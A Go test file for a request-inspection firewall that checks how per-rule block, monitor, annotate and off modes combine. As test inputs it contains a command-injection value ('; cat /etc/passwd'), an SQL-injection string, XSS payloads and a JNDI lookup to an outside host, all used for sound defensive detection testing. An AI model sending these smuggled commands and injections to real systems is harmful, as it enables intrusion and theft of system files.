package inspect

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"weir/inspect/rules"
	"weir/inspect/source"
)

// A statement that one rule finds at level 1, and a command that others find.
const (
	command   = `; cat /etc/passwd`
	statement = `1' OR '1'='1`
)

// rulesOf are the rules that match a text, as entries in one mode.
func rulesOf(t *testing.T, text string, mode Mode) (list []RuleMode) {
	t.Helper()
	v, _ := judge(t, patient(), asked(text))
	for _, id := range ids(v) {
		list = append(list, RuleMode{Rule: id, Mode: mode})
	}
	if len(list) == 0 || v.Action != Block {
		t.Fatalf("%s: %s %v", text, v.Action, ids(v))
	}
	return list
}

func asked(text string) string {
	return functionURL("/", "id="+url.QueryEscape(text), "text/plain", "", false)
}

func ruled(options Options, list ...RuleMode) Options {
	options.Budget = time.Minute
	options.RuleModes = list
	return options
}

func TestARuleInMonitorIsReportedAndDoesNotBlock(t *testing.T) {
	watched := rulesOf(t, statement, ModeMonitor)
	v, outcome := judge(t, ruled(Options{}, watched...), asked(statement))
	if forward, ok := outcome.(source.Forward); !ok || string(forward.Payload) != asked(statement) || v.Action != Pass {
		t.Errorf("%s, %T", v.Action, outcome)
	}
	if v.Score != 0 || v.Mode != ModeBlock || v.Clean() || v.Incident == "" {
		t.Errorf("score %d, mode %s, incident %q: %+v", v.Score, v.Mode, v.Incident, v.Matches)
	}
	for _, m := range v.Matches {
		if m.Mode != ModeMonitor || m.Score == 0 || v.Counts(m) {
			t.Errorf("%+v", m)
		}
	}
	// What another rule finds blocks as before: beside it in one value, in another value, and in a reading of it.
	for _, event := range []string{
		asked(statement + command), asked(command), functionURL("/", "id="+url.QueryEscape(statement)+"&x="+url.QueryEscape(command), "text/plain", "", false),
		`{"a":"` + statement + `","b":"` + packed(command) + `"}`, `{"b":"` + command + `","a":"` + statement + `"}`,
	} {
		if v, _ := judge(t, ruled(Options{}, watched...), event); v.Action != Block || v.Score < 5 {
			t.Errorf("%s: %s, score %d, %v", event, v.Action, v.Score, ids(v))
		}
	}
}

// Whichever rules are only watched, the score that counts is that of the others, and all are reported.
func TestWatchingARuleTakesNothingFromAnother(t *testing.T) {
	for _, event := range []string{
		asked(injection), asked(statement + command), asked("<script>alert(1)</script>" + command), queue("one", injection+command, "<svg onload=alert(1)>"),
		`{"a":"${jndi:ldap://x.example/a}","b":"` + statement + `"}`,
	} {
		all, _ := judge(t, patient(), event)
		for _, watched := range ids(all) {
			v, _ := judge(t, ruled(Options{}, RuleMode{Rule: watched, Mode: ModeMonitor}), event)
			if !slices.Equal(ids(v), ids(all)) {
				t.Errorf("%d watched in %s: rules %v, want %v", watched, event, ids(v), ids(all))
			}
			off, _ := judge(t, ruled(Options{}, RuleMode{Rule: watched, Mode: ModeOff}), event)
			if slices.Contains(ids(off), watched) || v.Score != off.Score || v.Action != off.Action || !slices.Equal(v.Bad, off.Bad) {
				t.Errorf("%d in %s: watched %s %d %v, off %s %d %v", watched, event, v.Action, v.Score, v.Bad, off.Action, off.Score, off.Bad)
			}
		}
	}
}

func TestARulesModeBesideThatOfItsEvent(t *testing.T) {
	tag := func(mode Mode) RuleMode { return RuleMode{Tag: "attack-sqli", Mode: mode} }
	url := map[string]Mode{"function-url": ModeMonitor}
	for _, c := range []struct {
		options Options
		list    []RuleMode
		action  Action
		mode    Mode
	}{
		{Options{}, []RuleMode{tag(ModeMonitor)}, Pass, ModeBlock},
		{Options{}, []RuleMode{tag(ModeAnnotate)}, Annotate, ModeAnnotate},
		{Options{}, []RuleMode{tag(ModeOff)}, Pass, ModeBlock},
		{Options{Mode: ModeMonitor}, []RuleMode{tag(ModeBlock)}, Block, ModeBlock},
		{Options{Mode: ModeMonitor}, []RuleMode{tag(ModeAnnotate)}, Annotate, ModeAnnotate},
		{Options{Mode: ModeAnnotate}, []RuleMode{tag(ModeMonitor)}, Pass, ModeAnnotate},
		{Options{Mode: ModeAnnotate}, []RuleMode{tag(ModeBlock)}, Block, ModeBlock},
		{Options{Mode: ModeOff}, []RuleMode{tag(ModeBlock)}, Pass, ModeOff},
		{Options{Modes: url}, []RuleMode{tag(ModeBlock)}, Pass, ModeMonitor},
		{Options{Mode: ModeMonitor, Modes: map[string]Mode{"function-url": ModeAnnotate}}, []RuleMode{tag(ModeBlock)}, Annotate, ModeAnnotate},
		{Options{Mode: ModeMonitor, Modes: map[string]Mode{"function-url": ModeBlock}}, []RuleMode{tag(ModeMonitor)}, Pass, ModeBlock},
		{Options{}, []RuleMode{tag(ModeMonitor), {Tag: "OWASP_CRS", Mode: ModeBlock}}, Pass, ModeBlock},
		{Options{}, []RuleMode{{Tag: "other", Mode: ModeMonitor}}, Block, ModeBlock},
		{Options{}, append(rulesOf(t, statement, ModeBlock), tag(ModeMonitor)), Block, ModeBlock},
		{Options{}, append([]RuleMode{tag(ModeBlock)}, rulesOf(t, statement, ModeMonitor)...), Pass, ModeBlock},
	} {
		v, _ := judge(t, ruled(c.options, c.list...), asked(statement))
		if v.Action != c.action || v.Mode != c.mode {
			t.Errorf("%s %v %v: %s in %s, want %s in %s: %+v", c.options.Mode, c.options.Modes, c.list, v.Action, v.Mode, c.action, c.mode, v.Matches)
		}
	}
}

func TestASourceThatIsLoggedByDefaultIsNotMadeStricterByARule(t *testing.T) {
	list := rulesOf(t, command, ModeBlock)
	for name, src := range map[string]source.Source{"cwlogs": source.Named("cwlogs"), "config": source.Named("config")} {
		g := (&Options{}).governance(ModeMonitor, src, name)
		if got := g.of(list[0].Mode); got != ModeMonitor {
			t.Errorf("%s: %s", name, got)
		}
	}
	if got := (&Options{}).governance(ModeMonitor, source.Direct{}, "cwlogs").of(ModeBlock); got != ModeBlock {
		t.Errorf("what is answered as direct: %s", got)
	}
}

func TestRecordsAreTakenOutByTheRulesThatBlock(t *testing.T) {
	event := queue("one", statement, command, "two")
	v, outcome := judge(t, ruled(Options{}, rulesOf(t, statement, ModeMonitor)...), event)
	forward, ok := outcome.(source.Forward)
	if !ok || v.Action != Filter || !slices.Equal(v.Bad, []int{2}) || !strings.Contains(string(forward.Payload), "OR '1'") || strings.Contains(string(forward.Payload), "passwd") {
		t.Errorf("%s %v %T", v.Action, v.Bad, outcome)
	}
	v, outcome = judge(t, ruled(Options{Mode: ModeMonitor}, rulesOf(t, statement, ModeBlock)...), event)
	forward, ok = outcome.(source.Forward)
	if !ok || v.Action != Filter || !slices.Equal(v.Bad, []int{1}) || !strings.Contains(string(forward.Payload), "passwd") {
		t.Errorf("%s %v %T", v.Action, v.Bad, outcome)
	}
}

func TestAMarkNamesTheRulesThatCount(t *testing.T) {
	list := append(rulesOf(t, statement, ModeAnnotate), rulesOf(t, command, ModeMonitor)...)
	v, _ := judge(t, ruled(Options{}, list...), asked(statement+command))
	note := v.note()
	if v.Action != Annotate || note.Verdict != string(ModeAnnotate) || slices.Contains(note.Rules, list[len(list)-1].Rule) || !slices.Contains(note.Rules, list[0].Rule) {
		t.Errorf("%s %+v", v.Action, note)
	}
}

func TestARuleOfOurOwnAndOneOfTheUserHaveModes(t *testing.T) {
	limits := ruled(Options{}, RuleMode{Rule: rules.Incomplete, Mode: ModeMonitor})
	bomb := `{"data":"` + packed(strings.Repeat("\x00", 10<<20)) + `"}`
	if v, _ := judge(t, limits, bomb); v.Action != Pass || !slices.Contains(ids(v), rules.Incomplete) || len(v.Incomplete) == 0 {
		t.Errorf("%s %v", v.Action, ids(v))
	}
	denies := Options{Rules: []string{`SecRule ARGS "@contains kiwi" "id:7,phase:2,deny,msg:'kiwi'"`}}
	for mode, action := range map[Mode]Action{"": Block, ModeBlock: Block, ModeMonitor: Pass, ModeOff: Pass} {
		options := ruled(denies)
		if mode != "" {
			options = ruled(denies, RuleMode{Rule: 7, Mode: mode})
		}
		if v, _ := judge(t, options, asked("a kiwi")); v.Action != action || slices.Contains(ids(v), 7) == (mode == ModeOff) {
			t.Errorf("%s: %s %v", mode, v.Action, ids(v))
		}
		if v, _ := judge(t, options, asked("a kiwi"+command)); v.Action != Block {
			t.Errorf("%s, and a command: %s %v", mode, v.Action, ids(v))
		}
	}
}

// However often a watched rule matches, the match that blocks is in the verdict.
func TestWatchedMatchesLeaveRoomForThoseThatBlock(t *testing.T) {
	var b strings.Builder
	for n := range maxMatches {
		fmt.Fprintf(&b, `{"n":"%d %s"},`, n, statement)
	}
	v, _ := judge(t, ruled(Options{}, rulesOf(t, statement, ModeMonitor)...), `[`+b.String()+`"`+command+`"]`)
	if v.Action != Block || !slices.ContainsFunc(v.Matches, v.Counts) {
		t.Errorf("%s, %d matches", v.Action, len(v.Matches))
	}
}

func TestAResponseIsWithheldByTheRulesThatBlock(t *testing.T) {
	body := "-----BEGIN RSA PRIVATE KEY-----\n" + strings.Repeat("MIIEpAIBAAKCAQEA1c7+", 3) + "\nabc\n-----END RSA PRIVATE KEY-----"
	caller := source.CallerOf(source.Named("function-url"), source.Event{}, "function-url")
	response := source.Response{Head: []byte(fmt.Sprintf(`{"statusCode":200,"body":%q}`, body)), Whole: true}
	found := func(list ...RuleMode) Verdict {
		i := inspectorFor(t, ruled(Options{Responses: ResponsesBlock}, list...))
		v, _ := i.InspectResponse(t.Context(), source.Invocation{}, caller, response)
		return v
	}
	all := found()
	if all.Action != Block {
		t.Fatalf("%s %v", all.Action, ids(all))
	}
	for mode, action := range map[Mode]Action{ModeBlock: Block, ModeAnnotate: Pass, ModeMonitor: Pass, ModeOff: Pass} {
		var list []RuleMode
		for _, id := range ids(all) {
			list = append(list, RuleMode{Rule: id, Mode: mode})
		}
		v := found(list...)
		if v.Action != action || v.Clean() != (mode == ModeOff) || action == Pass && v.Score != 0 {
			t.Errorf("%s: %s, score %d, %+v", mode, v.Action, v.Score, v.Matches)
		}
	}
}
